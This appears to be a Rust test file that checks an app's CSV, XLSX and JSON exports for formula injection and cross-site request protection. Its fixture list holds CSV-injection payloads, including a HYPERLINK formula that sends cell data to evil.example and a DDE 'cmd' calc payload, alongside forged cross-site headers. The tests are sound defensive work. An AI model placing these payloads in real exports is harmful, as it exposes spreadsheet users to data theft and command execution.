//! Exports cannot attack the person who opens them (issue 13, item 4): CSV cells a
//! spreadsheet would run as formulas are neutralized on every path (PostgreSQL's COPY, the
//! row path, MariaDB) while numbers stay numbers; the guard can be turned off; XLSX keeps
//! such text as text; and export URLs refuse requests that another site started.
use crate::common;

use app::model::{
    connection::ConnectionId,
    insight::{Insight, InsightDraft},
    Role,
};
use common::{export_audit, spawn_app_with, Store, TestApp};
use reqwest::{Client, StatusCode};
use serde_json::json;
use sqlx::Connection;
use std::time::Duration;

fn marker() -> String {
    format!("xs{}", &uuid::Uuid::new_v4().simple().to_string()[..12])
}

fn pg_test_url() -> String {
    let admin = common::pg_admin_url();
    let (base, _) = admin.rsplit_once('/').unwrap();
    format!("{base}/test")
}

const MARIADB_URL: &str = "mysql://root@127.0.0.1:3306/test";

/// Text cells as stored, in id order: what a spreadsheet would run, and what it would not.
const TEXTS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\u{FF1D}1+1",
    "=1+1, with \"quotes\"\nand a line break",
    "-5",
    "plain text",
    "a=1",
    "",
];

/// What the CSV must hold for each of [`TEXTS`] with the guard on.
fn guarded(text: &str) -> String {
    let formula = matches!(
        text.chars().next(),
        Some('=' | '+' | '@' | '\t' | '\r' | '\u{FF1D}')
    ) || (text.starts_with('-') && text != "-5");
    if formula {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

async fn pg_exec(statements: &[String]) {
    let mut c = sqlx::PgConnection::connect(&pg_test_url()).await.unwrap();
    for s in statements {
        sqlx::query(s).execute(&mut c).await.unwrap();
    }
    c.close().await.unwrap();
}

async fn mariadb_exec(statements: &[String]) {
    let mut c = sqlx::MySqlConnection::connect(MARIADB_URL).await.unwrap();
    for s in statements {
        sqlx::query(s).execute(&mut c).await.unwrap();
    }
    c.close().await.unwrap();
}

/// `t(id, note text, n int, d numeric)`: every text of [`TEXTS`] with negative numbers beside
/// (`options` ends the CREATE TABLE, e.g. MariaDB's character set).
fn fixture(table: &str, options: &str) -> Vec<String> {
    let mut out = vec![format!(
        "CREATE TABLE {table} (id int PRIMARY KEY, note text, n int, d numeric(8,2)) {options}"
    )];
    for (i, t) in TEXTS.iter().enumerate() {
        let quoted = t.replace('\'', "''");
        out.push(format!(
            "INSERT INTO {table} VALUES ({i}, '{quoted}', -{i}, -{i}.50)"
        ));
    }
    out
}

async fn connection(app: &TestApp, c: &Client, kind: &str) -> i64 {
    let (port, user) = if kind == "mysql" {
        ("3306", "root")
    } else {
        ("5432", "postgres")
    };
    let (status, body) = app
        .form_call(
            c,
            "save_connection",
            &[
                ("name", kind),
                ("kind", kind),
                ("host", "127.0.0.1"),
                ("port", port),
                ("database", "test"),
                ("user", user),
                ("ssl_mode", "disable"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    serde_json::from_str(&body).unwrap()
}

async fn insight(app: &TestApp, c: &Client, conn: i64, sql: &str) -> Insight {
    let draft = InsightDraft {
        name: format!("export {}", marker()),
        connection_id: Some(ConnectionId(conn)),
        sql: sql.into(),
        ..Default::default()
    };
    let (status, body) = app
        .call_json(
            c,
            "save_insight",
            &json!({"id": null, "base_version": null, "draft": draft}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    serde_json::from_str(&body).unwrap()
}

/// GET as a browser following a link on one of our own pages.
async fn download(app: &TestApp, c: &Client, path: &str) -> Vec<u8> {
    let r = c
        .get(format!("{}{path}", app.base))
        .header("sec-fetch-site", "same-origin")
        .header("referer", format!("{}/insights", app.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "{path}");
    r.bytes().await.unwrap().to_vec()
}

fn read_csv(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::ReaderBuilder::new().from_reader(bytes);
    let head = r.headers().unwrap().iter().map(str::to_string).collect();
    let rows = r
        .records()
        .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
        .collect();
    (head, rows)
}

async fn export_count(app: &TestApp) -> i64 {
    let sql = "SELECT COUNT(*) FROM audit_log WHERE action = 'insight_export'";
    match &app.state.db {
        app::server::db::Db::Sqlite(p) => sqlx::query_scalar(sql).fetch_one(p).await,
        app::server::db::Db::Postgres(p) => sqlx::query_scalar(sql).fetch_one(p).await,
    }
    .unwrap()
}

/// Checks a CSV export of `SELECT id, note AS "=cmd", n, d …` against [`TEXTS`].
fn check(what: &str, bytes: &[u8], guard: bool) {
    let (head, rows) = read_csv(bytes);
    let want_head = if guard { "'=cmd" } else { "=cmd" };
    assert_eq!(head, ["id", want_head, "n", "d"], "{what}: header");
    assert_eq!(rows.len(), TEXTS.len(), "{what}");
    for (i, (row, text)) in rows.iter().zip(TEXTS).enumerate() {
        let want = if guard {
            guarded(text)
        } else {
            text.to_string()
        };
        // csv reads "\r=1+1" back with its CR; the spreadsheet sees the same bytes.
        assert_eq!(row[1], want, "{what}: row {i}");
        // Numbers stay numbers, negative ones too.
        assert_eq!(row[2], format!("{}", -(i as i64)), "{what}: row {i} n");
        assert!(
            row[3] == format!("-{i}.50") || row[3] == format!("-{i}.5"),
            "{what}: row {i} d = {}",
            row[3]
        );
    }
}

#[tokio::test]
async fn csv_cells_that_would_run_as_formulas_are_neutralized_on_every_path() {
    let app = spawn_app_with(Store::Sqlite, |_| {}).await;
    let (c, _) = app.signed_in(Role::Editor).await;
    let table = format!("{}_formulas", marker());
    pg_exec(&fixture(&table, "")).await;
    mariadb_exec(&fixture(&table, "DEFAULT CHARSET=utf8mb4")).await;
    let pg = connection(&app, &c, "postgres").await;
    let my = connection(&app, &c, "mysql").await;
    let select = format!("SELECT id, note AS \"=cmd\", n, d FROM {table} ORDER BY id");

    // PostgreSQL writes this CSV itself (COPY).
    let copied = insight(&app, &c, pg, &select).await;
    let bytes = download(&app, &c, &format!("/insights/{}/export.csv", copied.id)).await;
    check("COPY", &bytes, true);
    let audit = export_audit(&app, copied.id.0).await;
    assert!(
        audit["bytes"].as_u64().unwrap_or(0) > 0,
        "not through COPY: {audit}"
    );

    // A float column keeps it on the row path.
    let rows = insight(
        &app,
        &c,
        pg,
        &format!("SELECT id, note AS \"=cmd\", n, d, 0.5::float8 AS f FROM {table} ORDER BY id"),
    )
    .await;
    let bytes = download(&app, &c, &format!("/insights/{}/export.csv", rows.id)).await;
    let (head, _) = read_csv(&bytes);
    assert_eq!(head.len(), 5);
    let trimmed: Vec<u8> = {
        // Drop the float column and compare as the others.
        let (head, rows) = read_csv(&bytes);
        let mut w = csv::Writer::from_writer(vec![]);
        w.write_record(&head[..4]).unwrap();
        for r in rows {
            w.write_record(&r[..4]).unwrap();
        }
        w.into_inner().unwrap()
    };
    check("row path", &trimmed, true);
    let audit = export_audit(&app, rows.id.0).await;
    assert!(
        audit["rows"].as_u64().is_some(),
        "not the row path: {audit}"
    );

    // MariaDB (row path, its own type mapping).
    let select_my = format!("SELECT id, note AS `=cmd`, n, d FROM {table} ORDER BY id");
    let my_insight = insight(&app, &c, my, &select_my).await;
    let bytes = download(&app, &c, &format!("/insights/{}/export.csv", my_insight.id)).await;
    check("MariaDB", &bytes, true);

    pg_exec(&[format!("DROP TABLE {table}")]).await;
    mariadb_exec(&[format!("DROP TABLE {table}")]).await;
}

#[tokio::test]
async fn the_formula_guard_can_be_turned_off_for_machine_consumers() {
    let app = spawn_app_with(Store::Sqlite, |a| a.engine.csv_formula_guard = false).await;
    let (c, _) = app.signed_in(Role::Editor).await;
    let table = format!("{}_raw", marker());
    pg_exec(&fixture(&table, "")).await;
    let pg = connection(&app, &c, "postgres").await;
    for sql in [
        format!("SELECT id, note AS \"=cmd\", n, d FROM {table} ORDER BY id"),
        format!("SELECT id, note AS \"=cmd\", n, d FROM {table} WHERE 0.5::float8 > 0 ORDER BY id"),
    ] {
        let i = insight(&app, &c, pg, &sql).await;
        let bytes = download(&app, &c, &format!("/insights/{}/export.csv", i.id)).await;
        check("guard off", &bytes, false);
    }
    pg_exec(&[format!("DROP TABLE {table}")]).await;
}

#[tokio::test]
async fn xlsx_keeps_formula_text_as_text() {
    use calamine::{Data, Reader, Xlsx};
    let app = spawn_app_with(Store::Sqlite, |_| {}).await;
    let (c, _) = app.signed_in(Role::Editor).await;
    let pg = connection(&app, &c, "postgres").await;
    let i = insight(
        &app,
        &c,
        pg,
        "SELECT '=1+1'::text AS a, '@SUM(1,2)'::text AS b, -5 AS n",
    )
    .await;
    let bytes = download(&app, &c, &format!("/insights/{}/export.xlsx", i.id)).await;
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&sheet).unwrap();
    assert_eq!(range.get_value((1, 0)), Some(&Data::String("=1+1".into())));
    assert_eq!(
        range.get_value((1, 1)),
        Some(&Data::String("@SUM(1,2)".into()))
    );
    assert_eq!(range.get_value((1, 2)), Some(&Data::Float(-5.0)));
    let formulas = book.worksheet_formula(&sheet).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "the workbook holds formulas"
    );
}

#[tokio::test]
async fn export_urls_refuse_requests_started_by_another_site() {
    let app = spawn_app_with(Store::Sqlite, |_| {}).await;
    let (c, _) = app.signed_in(Role::Editor).await;
    let pg = connection(&app, &c, "postgres").await;
    let i = insight(&app, &c, pg, "SELECT generate_series(1, 3) AS n").await;
    let url = format!("{}/insights/{}/export.csv", app.base, i.id);
    let base = app.base.clone();
    let foreign: Vec<Vec<(&str, String)>> = vec![
        vec![("sec-fetch-site", "cross-site".into())],
        vec![("sec-fetch-site", "same-site".into())],
        vec![
            ("sec-fetch-site", "cross-site".into()),
            ("sec-fetch-mode", "navigate".into()),
        ],
        vec![("origin", "http://evil.example".into())],
        vec![("origin", "null".into())],
        vec![("referer", "http://evil.example/page.html".into())],
        vec![
            ("sec-fetch-site", "same-origin".into()),
            ("referer", "http://evil.example/".into()),
        ],
        // Same host, another port: another origin.
        vec![("origin", base.replace("127.0.0.1:", "127.0.0.1:1"))],
    ];
    for ext in ["csv", "xlsx", "json"] {
        let url = url.replace(".csv", &format!(".{ext}"));
        for headers in &foreign {
            let mut r = c.get(&url);
            for (k, v) in headers {
                r = r.header(*k, v);
            }
            let r = r.send().await.unwrap();
            assert_eq!(r.status(), StatusCode::FORBIDDEN, "{ext} {headers:?}");
            let text = r.text().await.unwrap();
            assert!(
                text.contains("Export"),
                "the refusal says what to do: {text}"
            );
        }
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(
        export_count(&app).await,
        0,
        "a refused request started an export"
    );

    // A direct navigation (typed, bookmarked) and our own pages still work.
    let allowed: Vec<Vec<(&str, String)>> = vec![
        vec![("sec-fetch-site", "none".into())],
        vec![
            ("sec-fetch-site", "same-origin".into()),
            ("referer", format!("{base}/insights/{}", i.id)),
        ],
        vec![("origin", base.clone())],
        vec![],
    ];
    for headers in &allowed {
        let mut r = c.get(&url);
        for (k, v) in headers {
            r = r.header(*k, v);
        }
        let r = r.send().await.unwrap();
        assert_eq!(r.status(), StatusCode::OK, "{headers:?}");
        assert_eq!(r.text().await.unwrap(), "n\n1\n2\n3\n");
    }
}
